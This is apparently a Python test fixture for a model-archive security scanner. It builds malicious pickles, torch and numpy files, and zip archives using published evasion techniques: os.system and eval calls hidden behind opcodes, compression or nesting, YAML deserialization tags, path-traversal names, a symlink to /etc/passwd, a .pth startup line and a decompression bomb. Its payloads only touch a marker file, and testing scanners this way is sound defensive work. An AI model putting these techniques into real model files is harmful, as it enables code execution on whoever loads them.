"""Archives as attackers build them, by published techniques. The code in each would only create one empty file."""

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import numpy as np
import torch

from marina.archiver.archive import MANIFEST

Members = dict[str, bytes]
MODEL = {"modelName": "m", "modelVersion": "1", "handler": "image_classifier"}


def imported(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def call(module: str, name: str, *arguments: str) -> bytes:
    return b"\x80\x02" + imported(module, name) + b"(" + b"".join(map(text, arguments)) + b"tR."


class Touches:
    def __init__(self, mark: Path) -> None:
        self.command = f"touch {mark}"

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def zipped(members: Members, **options: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", **options) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tarred(members: Members) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def saved(value: object, *, as_zip: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer, _use_new_zipfile_serialization=as_zip)
    return buffer.getvalue()


def _array(mark: Path) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([Touches(mark)], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _torchscript() -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.trace(torch.nn.Linear(1, 1), torch.zeros(1, 1)), buffer)
    return buffer.getvalue()


@cache
def pickles(mark: Path) -> dict[str, bytes]:
    """Pickles by technique, for a member whose name does not give them away."""
    made = {name: call(*parts) for name, parts in _calls(mark).items()}
    made |= {f"protocol {protocol}": pickle.dumps(Touches(mark), protocol) for protocol in range(6)}
    return made | _by_opcodes(mark) | _in_files(mark)


def _old(mark: Path) -> bytes:
    """A pickle in the text form of Python 2."""
    return imported("os", "system") + f"(S'touch {mark}'\ntR.".encode()


def _calls(mark: Path) -> dict[str, tuple[str, ...]]:
    """Functions that run code, or help to, when they are called."""
    touch = f"touch {mark}"
    return {
        "eval": ("builtins", "eval", f"open({str(mark)!r}, 'w')"),
        "exec": ("builtins", "exec", f"open({str(mark)!r}, 'w')"),
        "compile": ("builtins", "compile", "1", "a", "eval"),
        "import": ("builtins", "__import__", "antigravity"),
        "open": ("builtins", "open", str(mark), "w"),
        "getattr": ("builtins", "getattr", "a", "upper"),
        "eval by its name of Python 2": ("__builtin__", "eval", "1"),
        "commands of Python 2": ("commands", "getoutput", touch),
        "posix": ("posix", "system", touch),
        "nt": ("nt", "system", touch),
        "popen": ("os", "popen", touch),
        "Popen": ("subprocess", "Popen", "true"),
        "check_output": ("subprocess", "check_output", "true"),
        "run_path": ("runpy", "run_path", str(mark)),
        "import_module": ("importlib", "import_module", "antigravity"),
        "attrgetter": ("operator", "attrgetter", "system"),
        "methodcaller": ("operator", "methodcaller", "system"),
        "partial": ("functools", "partial", "a"),
        "timeit": ("timeit", "timeit", "1"),
        "debugger": ("pdb", "run", "1"),
        "profiler": ("cProfile", "run", "1"),
        "base debugger": ("bdb", "Bdb", "1"),
        "pseudo terminal": ("pty", "spawn", "true"),
        "C library": ("ctypes", "CDLL", "libc.so.6"),
        "numpy's runstring": ("numpy.testing._private.utils", "runstring", "1"),
        "torch's execWrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", "1"),
        "torch.load again": ("torch.serialization", "load", str(mark)),
        "torch.hub": ("torch.hub", "load", "a/b"),
        "torch's C++ loader": ("torch.utils.cpp_extension", "load_inline", "a"),
        "browser": ("webbrowser", "open", f"file://{mark}"),
        "pip": ("pip", "main", "install"),
        "socket": ("socket", "create_connection", "a"),
        "dill": ("dill._dill", "_create_function", "a"),
        "cloudpickle": ("cloudpickle.cloudpickle", "_make_function", "a"),
        "joblib": ("joblib.numpy_pickle", "NumpyArrayWrapper"),
        "nested loads": ("pickle", "loads", "a"),
        "marshal": ("marshal", "loads", "a"),
        "code object": ("types", "CodeType", "a"),
        "interpreter": ("code", "InteractiveInterpreter"),
        "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start", "a"),
        "logging": ("logging.config", "_resolve", "os.system"),
        "a file to write": ("pathlib", "Path.touch", str(mark)),
        "distutils": ("distutils.file_util", "write_file", str(mark)),
        "an allowed class's inside": ("collections", "OrderedDict.__init__"),
        "module of the archive": ("helper", "run", "1"),
    }


def _by_opcodes(mark: Path) -> dict[str, bytes]:
    """Pickles that hide what they do behind opcodes or in places that a reader may overlook."""
    old = _old(mark)
    plain = old.removeprefix(imported("os", "system"))[:-1]
    tensor = b"\x80\x02" + imported("torch", "Tensor") + b"}"
    ending = b"\x93" + short("true") + b"\x85R."
    return {
        "second in a stream": pickle.dumps([1, 2]) + old,
        "third in a stream": pickle.dumps(1) + pickle.dumps({"a": 2}) + pickle.dumps(Touches(mark)),
        "names from the memo": b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01" + ending,
        "names from the memo, numbered": b"\x80\x04" + short("system") + b"q\x07" + short("os") + b"h\x07" + ending,
        "names doubled": b"\x80\x04" + short("os") + b"2\x93" + short("true") + b"\x85R.",
        "names with others between": b"\x80\x04" + short("os") + short("math") + b"0" + short("system") + ending,
        "names in bytes of Python 2": b"\x80\x04U\x02osU\x06system" + ending,
        "names that are no texts": b"\x80\x04NN" + ending,
        "INST": b"(S'true'\nios\nsystem\n.",
        "OBJ": b"(" + imported("os", "system") + b"S'true'\no.",
        "NEWOBJ": b"\x80\x02" + imported("subprocess", "Popen") + text("true") + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + imported("subprocess", "Popen") + b")}\x92.",
        "BUILD on a class": tensor + text("__add__") + imported("os", "system") + b"sb.",
        "BUILD on an allowed class": tensor + text("shape") + text("a") + b"sb.",
        "EXT1": b"\x80\x02\x82\x01)R.",
        "EXT2": b"\x80\x02\x83\x01\x01)R.",
        "EXT4": b"\x80\x02\x84\x01\x01\x00\x00)R.",
        "broken behind the payload": imported("os", "system") + plain + b"\x00\x00\xff",
        "broken, with a header": b"\x80\x04" + old[:-1] + b"\x00",
        "without an end": b"\x80\x02" + imported("os", "system") + plain,
        "an argument that pickletools refuses": b"I0x10\n0" + old,
        "a float that pickletools refuses": b"Fnan(1)\n0" + old,
        "a persistent reference": b"\x80\x02" + text("os.system") + b"Q.",
        "a persistent reference in text": b"\x80\x02Pos.system\n.",
        "only an import": b"\x80\x02" + imported("antigravity", "fly") + b".",
        "an import that is not finished": imported("antigravity", "fly") + b"\x00",
        "a frame that lies": b"\x80\x04\x95\x01" + bytes(7) + old,
        "a protocol in the middle": b"N0\x80\x04" + old,
        "thousands of harmless ones before": b"N0" * 20_000 + old,
        "in the middle of numbers": bytes(range(1, 40)) * 50 + b"\x80\x02" + old,
        "in the middle, protocol 0": b"\0" * 999 + old,
        "behind plain data": pickle.dumps(1) + b"\0" * 99 + old,
    }


def _in_files(mark: Path) -> dict[str, bytes]:
    """Pickles in files of torch, numpy and joblib, and in archives."""
    old = _old(mark)
    return {
        "whole model": saved(torch.nn.Linear(1, 1)),
        "whole model, before zip": saved(torch.nn.Linear(1, 1), as_zip=False),
        "torch's zip": saved({"w": torch.ones(1), "x": Touches(mark)}),
        "torch before zip": saved({"x": Touches(mark)}, as_zip=False),
        "torch in tar": tarred({"sys_info": pickle.dumps({}), "pickle": old, "tensors": b"", "storages": b""}),
        "torch in tar, its storages": tarred({"pickle": pickle.dumps(1), "storages": pickle.dumps(1) + old}),
        "TorchScript": _torchscript(),
        "TorchScript in a flatbuffer": b"\x20\0\0\0PTMF" + bytes(56),
        "TorchScript in a flatbuffer in an archive": zipped({"a": b"\x20\0\0\0PTMF" + bytes(56)}),
        "before an archive": old + zipped({"a": b""}),
        "in an archive behind text": b"a text\n" + zipped({"a": old}),
        "archive in archive": zipped({"b.zip": zipped({"c": old})}),
        "archive with a deflated member": zipped({"c": old}, compression=zipfile.ZIP_DEFLATED),
        "gzip": gzip.compress(old),
        "bzip2": bz2.compress(old),
        "xz": lzma.compress(old),
        "zlib, as joblib": zlib.compress(old),
        "gzip in gzip": gzip.compress(gzip.compress(old)),
        "zstd": b"\x28\xb5\x2f\xfd" + old,
        "lz4": b"\x04\x22\x4d\x18" + old,
        "7z": b"7z\xbc\xaf\x27\x1c" + old,
        "array of objects": _array(mark),
        "arrays of objects": zipped({"a.npy": _array(mark)}),
        "nested too deep": _nested(old, 12),
    }


def _nested(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zipped({"a": data})
    return data


@cache
def members(mark: Path) -> dict[str, Members]:
    """Members by technique."""
    old = _old(mark)
    engine = zlib.compressobj(9, zlib.DEFLATED, 9)
    return {
        "a module in place of numpy": {"numpy.py": b"x = 1\n"},
        "a module in place of json, where a record may look": {"source/json.py": b"x = 1\n"},
        "a package in place of torch": {"torch/__init__.py": b"x = 1\n"},
        "sitecustomize": {"sitecustomize.py": b"x = 1\n"},
        "Python's YAML tags": {"model-config.yaml": b"a: !!python/object/apply:os.system ['true']\n"},
        "Java's YAML tags": {
            "model-config.yaml": b"a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://a']]\n"
        },
        "a spelt out YAML tag": {"model-config.yaml": b"a: !<tag:yaml.org,2002:python/name:os.system> ''\n"},
        "packages of its own": {"model-config.yaml": b'{minWorkers: 1, "useVenv": yes}'},
        "code from elsewhere": {"model-config.yaml": b"handler:\n  trust_remote_code: True\n"},
        "code from elsewhere, as JSON": {"setup_config.json": b'{"trust_remote_code": true}'},
        "out of the folder": {"../../a": b""},
        "out of the folder, as Windows writes it": {"..\\a": b""},
        "from the root": {"/etc/cron.d/a": b""},
        "a drive": {"C:a": b""},
        "model.pt in protocol 0": {"model.pt": old},
        "an old pickle without a name for it": {"LICENSE": old},
        "a .pkl that cannot be followed": {"vocabulary.pkl": b"\xff\xfe\x00"},
        "escapes in a name": {"\x1b[2J\x1b[1;1Hmodel": b""},
        "much out of little": {"a.gz": gzip.compress(bytes(300_000_000), 1)},
        "the old form of xz": {"weights.bin": lzma.compress(old, format=lzma.FORMAT_ALONE)},
        "zlib with a small window": {"weights.bin": engine.compress(old) + engine.flush()},
        "a line that Python runs when it starts": {"evil.pth": b"import os; os.system('true')\n"},
        **{f"array of objects, {kind}": {"a.npy": _array_of(kind, old)} for kind in ("'|O'", "'O8'", "[('a', '|O')]")},
    }


def _array_of(kind: str, payload: bytes) -> bytes:
    """A numpy file whose header says what the values are."""
    header = f"{{'descr': {kind}, 'fortran_order': False, 'shape': (1,), }}".encode().ljust(118 - 1) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + payload


# What picklescan does not see, as docs and the command say: nothing else of `pickles` is called sound.
MISSED = {
    "EXT1", "EXT2", "EXT4", "a persistent reference", "a persistent reference in text", "behind plain data",
}  # fmt: skip
# The same, if the file is not named like a pickle.
MISSED_UNNAMED = MISSED | {
    "an argument that pickletools refuses", "a float that pickletools refuses", "an import that is not finished",
    "in the middle of numbers", "in the middle, protocol 0",
}  # fmt: skip
# Programs of tensors, which are listed as what runs.
PROGRAMS = {"TorchScript", "TorchScript in a flatbuffer", "TorchScript in a flatbuffer in an archive"}


def manifests() -> dict[str, dict[str, object]]:
    """Fields of a manifest that refer to something outside the archive."""
    return {
        "a handler elsewhere": {"handler": "/tmp/handler.py:run"},
        "a model file elsewhere": {"modelFile": "../model.py"},
        "a list for a name": {"serializedFile": ["a"]},
    }


def archive(file: Path, members: Members, changes: dict[str, object] | None = None) -> Path:
    manifest = json.dumps({"model": MODEL | (changes or {})}).encode()
    file.write_bytes(zipped({MANIFEST: manifest} | members))
    return file


def _added(file: Path, data: bytes) -> None:
    file.write_bytes(file.read_bytes() + data)


def _hidden(file: Path) -> None:
    """Adds a member at the beginning that the directory does not list."""
    file.write_bytes(zipped({"evil.py": b""})[:40] + file.read_bytes())


def _twice(file: Path) -> None:
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(file, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("a.txt", b"another")


def _link(file: Path) -> None:
    info = zipfile.ZipInfo("link")
    info.external_attr = 0o120777 << 16
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(info, "/etc/passwd")


def _encrypted(file: Path) -> None:
    data = bytearray(file.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    file.write_bytes(bytes(data))


def _comment(file: Path) -> None:
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = b"cos\nsystem\n"


def _at(signature: bytes, offset: int, data: bytes) -> Callable[[Path], None]:
    """Overwrites a field of an archive's last member, in its own header or in the directory."""

    def change(file: Path) -> None:
        content = bytearray(file.read_bytes())
        at = content.rfind(signature) + offset
        content[at : at + len(data)] = data
        file.write_bytes(bytes(content))

    return change


def _named(name: str, extra: bytes = b"") -> Callable[[Path], None]:
    def change(file: Path) -> None:
        info = zipfile.ZipInfo(name)
        info.extra = extra
        with zipfile.ZipFile(file, "a") as archive:
            archive.writestr(info, b"x")

    return change


_BEFORE, _DIRECTORY = b"PK\x03\x04", b"PK\x01\x02"
_SECOND_NAME = struct.pack("<HHBI", 0x7075, 17, 1, zlib.crc32(b"c.txt")) + b"../../d.pth\n"
LAYOUTS: dict[str, Callable[[Path], None]] = {
    "bytes behind": lambda file: _added(file, b"more"),
    "an archive behind": lambda file: _added(file, zipped({MANIFEST: b"{}"})),
    "a member that is hidden": _hidden,
    "a member twice": _twice,
    "a link": _link,
    "an encrypted member": _encrypted,
    "a comment": _comment,
    "another method in front": _at(_BEFORE, 8, b"\x08\0"),
    "other flags in front": _at(_BEFORE, 6, b"\x08\0"),
    "another sum in front": _at(_BEFORE, 14, b"AAAA"),
    "another length in front": _at(_BEFORE, 18, b"\x10\0\0\0"),
    "another full length in front": _at(_BEFORE, 22, b"\x10\0\0\0"),
    "longer in the directory": _at(_DIRECTORY, 24, b"\xff\xff\xff\x7f"),
    "a device": _at(_DIRECTORY, 38, struct.pack("<I", 0o020777 << 16)),
    "a pipe": _at(_DIRECTORY, 38, struct.pack("<I", 0o010777 << 16)),
    "a second name": _named("c.txt", _SECOND_NAME),
    "the same name, spelt otherwise": _named("./a.txt"),
    "a name with two slashes": _named("b//a.txt"),
}
